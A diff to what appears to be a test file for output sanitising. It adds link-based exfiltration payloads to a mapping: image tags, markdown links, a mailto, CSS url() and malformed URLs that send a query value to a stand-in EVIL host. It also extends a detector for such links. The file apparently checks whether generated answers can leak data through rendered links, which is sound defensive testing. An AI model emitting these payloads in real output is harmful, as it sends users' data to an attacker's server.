@@ -20,6 +20,12 @@ LINKS: Mapping[str, str] = {
     "HTML": f"{_FACT} [1] <img src=//{EVIL}/p.png?q=17><a href='//{EVIL}'>here</a>",
     "HTML put together": f"{_FACT} [1] <<img src=x>img src=//{EVIL}/p.png>",
     "another host before @": f"{_FACT} [1](https://docs.example@{EVIL}/?q=17)",
+    "ideographic full stop": f"{_FACT} [1] https://docs.example。{EVIL}/?q=17",
+    "backslash before @": f"{_FACT} [1] https://docs.example\\@{EVIL}/?q=17",
+    "fewer slashes": f"{_FACT} [1] https:/{EVIL}/?q=17 https:{EVIL}/?q=17 //{EVIL}/?q=17",
+    "mail with a body": f"{_FACT} [1] mailto:a@{EVIL}?body=17",
+    "tag behind a quoted >": f"{_FACT} [1] <div title='>' style='background:url(//{EVIL})'>",
+    "relative image with a title": f'{_FACT} [1] ![x](ask?q=17 "a/b")',
 }
 
 
@@ -27,6 +33,8 @@ def _leads(said: str) -> bool:
     """Whether a page could load or link it; as plain text a host's name is harmless."""
     links = [f"]({scheme}" for scheme in ("http", "//", "\\")]
     links += [f"://{EVIL}", f"@{EVIL}", f"www.{EVIL}", f"href='//{EVIL}", f"<img src=//{EVIL}"]
+    links += [f"https:/{EVIL}", f"https:{EVIL}", f" //{EVIL}", f"。{EVIL}", "mailto:a", "<div"]
+    links += ["](ask?q"]
     return any(link in said for link in links)
 
 
